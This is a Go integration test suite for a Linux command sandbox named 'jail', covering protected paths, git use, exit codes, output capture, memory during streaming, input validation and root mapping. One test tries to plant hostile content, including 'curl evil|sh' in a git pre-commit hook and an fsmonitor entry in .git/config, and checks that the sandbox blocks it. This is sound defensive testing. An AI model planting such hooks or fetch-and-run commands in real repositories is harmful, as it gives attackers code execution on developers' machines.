//go:build linux

package integration

import (
	"bufio"
	"encoding/json"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

func TestProtectedPaths(t *testing.T) {
	forEachPath(t, func(t *testing.T, r runner) {
		ws := r.dir(t, "jail-it-ws-")
		outside := r.dir(t, "jail-it-out-")
		r.writeFile(t, filepath.Join(ws, ".git", "hooks", "pre-commit"), "#!/bin/sh\nexit 0\n")
		r.writeFile(t, filepath.Join(ws, ".git", "config"), "[core]\n")
		r.writeFile(t, filepath.Join(outside, "target"), "ORIGINAL")
		// A symlinked protected path: .envrc -> a file outside.
		os.Symlink(filepath.Join(outside, "target"), filepath.Join(ws, ".envrc"))
		os.Lchown(filepath.Join(ws, ".envrc"), r.uid, r.gid)
		res := r.sh(t, ws, `
echo 'curl evil|sh' >> .git/hooks/pre-commit && echo W1
echo '[core] fsmonitor=evil' >> .git/config && echo W2
echo x > .git/hooks/post-checkout && echo W3
rm .git/hooks/pre-commit && echo W4
mv .git/hooks .git/hooks2 && echo W5
echo evil > .envrc && echo W6
rm .envrc && echo W7
ln -sf /tmp/x .envrc && echo W8
mkdir .vscode && echo W9
mkdir -p .vscode && echo '{}' > .vscode/tasks.json && echo W10
echo x > .bashrc && echo RC-WRITABLE
mkdir -p .github/hooks && echo GITHUB-WRITABLE
mkdir -p .jail && echo '[sandbox]' > .jail/policy.toml && echo W13
echo ok > normal.txt && echo NORMAL-WRITE
exit 0`)
		mustExit(t, res, 0)
		for _, w := range []string{"W1\n", "W2\n", "W3\n", "W4\n", "W5\n", "W6\n", "W7\n", "W8\n", "W9\n", "W10\n", "W13\n"} {
			if strings.Contains(res.stdout, w) {
				t.Errorf("protected path changed (%s)\n%s", strings.TrimSpace(w), res.stdout)
			}
		}
		// Shell rc files matter only in a home (a home as the workspace is
		// read-only as a whole: TestHomeWorkspace), and .github/hooks is
		// nothing git runs: in a project they are ordinary files.
		if !strings.Contains(res.stdout, "NORMAL-WRITE") || !strings.Contains(res.stdout, "RC-WRITABLE") || !strings.Contains(res.stdout, "GITHUB-WRITABLE") {
			t.Fatalf("ordinary workspace write failed:\n%s\n%s", res.stdout, res.stderr)
		}
		// Host side: contents unchanged, nothing created, placeholders gone.
		if b, _ := os.ReadFile(filepath.Join(ws, ".git", "hooks", "pre-commit")); string(b) != "#!/bin/sh\nexit 0\n" {
			t.Errorf("pre-commit hook changed: %q", b)
		}
		if b, _ := os.ReadFile(filepath.Join(ws, ".git", "config")); string(b) != "[core]\n" {
			t.Errorf(".git/config changed: %q", b)
		}
		if b, _ := os.ReadFile(filepath.Join(outside, "target")); string(b) != "ORIGINAL" {
			t.Errorf("symlink target changed: %q", b)
		}
		if l, err := os.Readlink(filepath.Join(ws, ".envrc")); err != nil || l != filepath.Join(outside, "target") {
			t.Errorf(".envrc symlink replaced: %q %v", l, err)
		}
		for _, p := range []string{".vscode", ".jail", ".idea", ".devcontainer", ".claude", ".mcp.json", ".codex", ".git/hooks/post-checkout"} {
			if _, err := os.Lstat(filepath.Join(ws, p)); err == nil {
				t.Errorf("%s exists on the host after the run", p)
			}
		}
	})
}

func TestGitCommitWorks(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("requires git: not installed")
	}
	forEachPath(t, func(t *testing.T, r runner) {
		ws := r.dir(t, "jail-it-ws-")
		init := exec.Command("git", "init", "-q", ws)
		if out, err := init.CombinedOutput(); err != nil {
			t.Fatalf("git init: %v %s", err, out)
		}
		r.own(t, ws)
		res := r.sh(t, ws, `set -e
export GIT_AUTHOR_NAME=a GIT_AUTHOR_EMAIL=a@b GIT_COMMITTER_NAME=a GIT_COMMITTER_EMAIL=a@b
git config --global --add safe.directory '*' 2>/dev/null || true
echo hello > file.txt
git add file.txt
git commit -qm first
git log --oneline | wc -l
mkdir sub && cd sub && git init -q && echo x > y && git add y && git commit -qm nested && echo NESTED-OK`)
		mustExit(t, res, 0)
		if !strings.Contains(res.stdout, "1\n") || !strings.Contains(res.stdout, "NESTED-OK") {
			t.Fatalf("git in the sandbox:\n%s\n%s", res.stdout, res.stderr)
		}
		out, err := exec.Command("git", "-C", ws, "-c", "safe.directory=*", "log", "--oneline").CombinedOutput()
		if err != nil || !strings.Contains(string(out), "first") {
			t.Fatalf("commit not visible on the host: %v %s", err, out)
		}
	})
}

func TestFunctional(t *testing.T) {
	forEachPath(t, func(t *testing.T, r runner) {
		ws := r.dir(t, "jail-it-ws-")
		mustExit(t, r.sh(t, ws, "exit 42"), 42)
		mustExit(t, r.sh(t, ws, "kill -TERM $$"), 128+15)
		mustExit(t, r.jail(t, call{dir: ws, args: []string{"run", "--", "no-such-command-xyz"}}), 127)

		res := r.jail(t, call{dir: ws, stdin: "piped input\n", args: []string{"run", "--", "cat"}})
		mustExit(t, res, 0)
		if res.stdout != "piped input\n" {
			t.Fatalf("stdin pipe: %q", res.stdout)
		}

		res = r.jail(t, call{dir: ws, args: []string{"run", "--", "python3", "-c", "import os; print('py', os.getcwd())"}})
		mustExit(t, res, 0)
		if res.stdout != "py "+ws+"\n" {
			t.Fatalf("python3 -c: %q %s", res.stdout, res.stderr)
		}

		if _, err := exec.LookPath("gcc"); err == nil {
			r.writeFile(t, filepath.Join(ws, "hello.c"), "#include <stdio.h>\nint main(void){puts(\"compiled and ran\");return 3;}\n")
			res = r.sh(t, ws, "gcc -O2 -o hello hello.c && ./hello")
			mustExit(t, res, 3)
			if res.stdout != "compiled and ran\n" {
				t.Fatalf("C program: %q %s", res.stdout, res.stderr)
			}
		}
	})
}

func TestJSONResultAndCapture(t *testing.T) {
	forEachPath(t, func(t *testing.T, r runner) {
		ws := r.dir(t, "jail-it-ws-")
		res := r.jail(t, call{dir: ws, args: []string{"run", "--capture", "--output-limit", "100",
			"--", "/bin/sh", "-c", "head -c 200000000 /dev/zero | tr '\\0' a; echo err >&2; exit 7"}, limit: 120e9})
		mustExit(t, res, 7)
		var out struct {
			ExitCode        int     `json:"exit_code"`
			TimedOut        bool    `json:"timed_out"`
			DurationMS      int64   `json:"duration_ms"`
			MaxRSSKB        int64   `json:"max_rss_kb"`
			Stdout          *string `json:"stdout"`
			Stderr          *string `json:"stderr"`
			StdoutTruncated int     `json:"stdout_truncated_chars"`
		}
		if err := json.Unmarshal([]byte(res.stdout), &out); err != nil {
			t.Fatalf("result is not one JSON object: %v\n%.300s", err, res.stdout)
		}
		if out.ExitCode != 7 || out.TimedOut || out.Stdout == nil || out.MaxRSSKB <= 0 {
			t.Fatalf("result: %+v", out)
		}
		if !strings.HasSuffix(*out.Stdout, "... [199999900 chars truncated]") || len(*out.Stdout) > 200 {
			t.Fatalf("stdout not capped with the marker: %.200q", *out.Stdout)
		}
		if *out.Stderr != "err\n" {
			t.Fatalf("stderr: %q", *out.Stderr)
		}
	})
}

// TestOutputFlood streams 200 MB through jail's stdout; jail does not
// buffer it (the command writes to the caller's descriptor directly).
func TestOutputFlood(t *testing.T) {
	forEachPath(t, func(t *testing.T, r runner) {
		ws := r.dir(t, "jail-it-ws-")
		cmd := exec.Command(suite.bin, "run", "--", "head", "-c", "200000000", "/dev/zero")
		cmd.Dir = ws
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=/nonexistent"}
		r.credential(cmd)
		pipe, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		// jail's own peak, from its memory's high-water mark while the
		// stream flows (a wait status's maxrss would also count the test
		// process's memory, which the child shared until its exec).
		status := "/proc/" + strconv.Itoa(cmd.Process.Pid) + "/status"
		var peak atomic.Int64
		done := make(chan struct{})
		go func() {
			for {
				if b, err := os.ReadFile(status); err == nil {
					for _, line := range strings.Split(string(b), "\n") {
						if v, ok := strings.CutPrefix(line, "VmHWM:"); ok {
							kb, _ := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(v), "kB")), 10, 64)
							if kb > peak.Load() {
								peak.Store(kb)
							}
						}
					}
				}
				select {
				case <-done:
					return
				case <-time.After(5 * time.Millisecond):
				}
			}
		}()
		n, _ := io.Copy(io.Discard, bufio.NewReaderSize(pipe, 1<<20))
		close(done)
		if err := cmd.Wait(); err != nil {
			t.Fatalf("jail: %v", err)
		}
		if n != 200000000 {
			t.Fatalf("read %d bytes, want 200000000", n)
		}
		if peak.Load() == 0 {
			t.Fatal("never read jail's memory high-water mark")
		}
		if rss := peak.Load(); rss > 64*1024 {
			t.Fatalf("peak RSS %d KiB while streaming: output is being buffered", rss)
		}
	})
}

func TestBadInput(t *testing.T) {
	forEachPath(t, func(t *testing.T, r runner) {
		ws := r.dir(t, "jail-it-ws-")
		cases := []struct {
			args []string
			want string
		}{
			{[]string{"run"}, "no command given"},
			{[]string{"run", "--memory", "lots", "--", "true"}, "--memory"},
			{[]string{"run", "--net", "wifi", "--", "true"}, "--net"},
			{[]string{"run", "--allow-degraded", "userns", "--", "true"}, "not a layer that may be skipped"},
			{[]string{"run", "-w", "/nonexistent-ws", "--", "true"}, "workspace"},
			{[]string{"run", "-w", "/", "--", "true"}, "system directory"},
			{[]string{"run", "--ro", "relative/path", "--", "true"}, "absolute"},
			{[]string{"run", "--ro", "/nonexistent-ro", "--", "true"}, "/nonexistent-ro"},
			{[]string{"frobnicate"}, "unknown command"},
			{[]string{"serve", "--allow-degraded", "cgroup"}, "not a layer that may be skipped"},
			{[]string{"tool", "--allow-degraded", "mount", "read", "{}"}, "not a layer that may be skipped"},
		}
		for _, c := range cases {
			res := r.jail(t, call{dir: ws, args: c.args})
			if res.code == 0 || !strings.Contains(res.stderr, c.want) {
				t.Errorf("jail %v: exit %d, stderr %q; want an error naming %q", c.args, res.code, res.stderr, c.want)
			}
		}
	})
}

// TestReaderGoesAway closes jail's stdout before jail writes its result:
// jail must survive the broken pipe long enough to clean up (no
// placeholder left in the workspace), and say why it failed.
func TestReaderGoesAway(t *testing.T) {
	forEachPath(t, func(t *testing.T, r runner) {
		ws := r.dir(t, "jail-it-ws-")
		pr, pw, err := os.Pipe()
		if err != nil {
			t.Fatal(err)
		}
		pr.Close() // nobody will read
		cmd := exec.Command(suite.bin, "run", "--capture", "--", "/bin/sh", "-c", "sleep 0.2; echo hi")
		cmd.Dir = ws
		cmd.Env = []string{"PATH=/usr/bin:/bin", "HOME=/nonexistent"}
		cmd.Stdout = pw
		var errb strings.Builder
		cmd.Stderr = &errb
		r.credential(cmd)
		err = cmd.Run()
		pw.Close()
		if ee, ok := err.(*exec.ExitError); !ok || ee.Sys().(syscall.WaitStatus).Signaled() {
			t.Fatalf("jail died of a signal or succeeded writing to a closed pipe: %v; stderr %q", err, errb.String())
		}
		if !strings.Contains(errb.String(), "broken pipe") {
			t.Errorf("no reason given: %q", errb.String())
		}
		if ents, _ := os.ReadDir(ws); len(ents) != 0 {
			var names []string
			for _, e := range ents {
				names = append(names, e.Name())
			}
			t.Fatalf("left in the workspace: %v", names)
		}
	})
}

// TestAsRoot maps the caller to uid 0 inside: the command sees root, the
// files it makes belong to the caller on the host, and root inside still
// has no capability.
func TestAsRoot(t *testing.T) {
	forEachPath(t, func(t *testing.T, r runner) {
		ws := r.dir(t, "jail-it-ws-")
		res := r.jail(t, call{dir: ws, args: []string{"run", "--as-root", "--", "/bin/sh", "-c",
			"id -u; echo x > made; grep CapEff /proc/self/status; chown 1234 made && echo CHOWNED; exit 0"}})
		mustExit(t, res, 0)
		if !strings.HasPrefix(res.stdout, "0\n") || !strings.Contains(res.stdout, "CapEff:\t0000000000000000") || strings.Contains(res.stdout, "CHOWNED") {
			t.Fatalf("inside: %q", res.stdout)
		}
		var st syscall.Stat_t
		if err := syscall.Stat(filepath.Join(ws, "made"), &st); err != nil {
			t.Fatal(err)
		}
		if int(st.Uid) != r.uid {
			t.Fatalf("file made as root inside belongs to uid %d on the host, want %d", st.Uid, r.uid)
		}
	})
}
